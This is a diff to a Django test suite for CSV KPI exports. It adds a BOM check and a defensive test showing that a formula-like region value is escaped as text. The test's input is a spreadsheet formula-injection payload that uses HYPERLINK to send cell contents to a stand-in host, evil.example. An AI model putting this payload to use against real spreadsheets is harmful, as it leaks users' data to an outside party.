@@ -14,6 +14,7 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 
+from contacts.models import Contact
 from kpis.definitions.base import registry
 from kpis.models import KpiRefresh, KpiTarget
 from surveys.models import Response
@@ -315,12 +316,25 @@ def test_the_detail_data_downloads_as_csv(manager_client):
     )
 
     assert series["Content-Type"].startswith("text/csv")
-    rows = list(csv.reader(io.StringIO(series.content.decode())))
+    assert series.content.startswith("\ufeff".encode())  # spreadsheets read it as UTF-8
+    rows = list(csv.reader(io.StringIO(series.content.decode("utf-8-sig"))))
     assert rows[0][:4] == ["period_start", "period_end", "churn_rate", "Customers lost (L)"]
     assert rows[0][4:6] == ["Customers at the start (S)", "sample_size"]
     assert rows[-1][:6] == ["2025-04-01", "2025-05-01", "25.00", "1.00", "4.00", "4"]
-    lines = list(csv.reader(io.StringIO(breakdown.content.decode())))
+    lines = list(csv.reader(io.StringIO(breakdown.content.decode("utf-8-sig"))))
     assert lines[1][:3] == ["Referral", "2025-04-01", "50.00"]
+
+
+def test_a_segment_label_that_looks_like_a_formula_is_exported_as_text(manager_client):
+    customer = make_customer(at(2025, 3, 1))
+    Contact.objects.filter(pk=customer.pk).update(region='=HYPERLINK("http://evil.example/?"&A1,"Europe")')
+    make_order(customer, at(2025, 4, 2), "100.00")
+    refresh_kpis()
+
+    export = manager_client.get("/kpis/revenue/export.csv", {**APRIL, "table": "breakdown", "breakdown": "region"})
+
+    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
+    assert rows[1][:3] == ['\'=HYPERLINK("http://evil.example/?"&A1,"Europe")', "2025-04-01", "100.00"]
 
 
 def test_an_unknown_kpi_is_a_404(manager_client):
